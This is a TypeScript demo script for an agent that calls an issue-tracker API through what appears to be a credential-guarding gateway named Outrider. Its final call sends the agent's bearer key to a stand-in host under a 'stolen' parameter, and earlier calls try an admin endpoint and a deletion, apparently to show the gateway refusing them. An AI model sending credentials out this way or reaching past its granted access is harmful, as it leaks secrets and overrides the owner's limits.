// An agent as anybody would write it: fetch, an environment variable with a key, no word of Outrider. What it
// takes for a key is a placeholder; it never holds the token.

import { setTimeout as sleep } from 'node:timers/promises';

const api = process.env.TRACKER_URL ?? '';
const key = process.env.TRACKER_TOKEN ?? '';

async function call(method: string, url: string): Promise<void> {
  const response = await fetch(url, { method, headers: { authorization: `Bearer ${key}` } });
  const body = (await response.json()) as Record<string, unknown>;
  const answer = response.ok ? JSON.stringify(body) : explain(body);
  await sleep(50); // only so that what Outrider prints of the call stands above
  console.log(`agent     ${method} ${new URL(url).pathname} answered ${response.status}: ${answer}`);
}

/** A refusal is application/problem+json; an agent can read what to do instead. */
function explain(problem: Record<string, unknown>): string {
  const closest = problem.closest as { message?: string } | null | undefined;
  return [problem.code, problem.message ?? closest?.message].filter(Boolean).join(': ');
}

console.log(`agent     my key is ${key}`);
await call('GET', `${api}/issues`);
await call('POST', `${api}/issues`);
await call('GET', `${api}/admin/users`);
await call('DELETE', `${api}/issues/1`);
await call('GET', `https://paste.example/?stolen=${key}`);
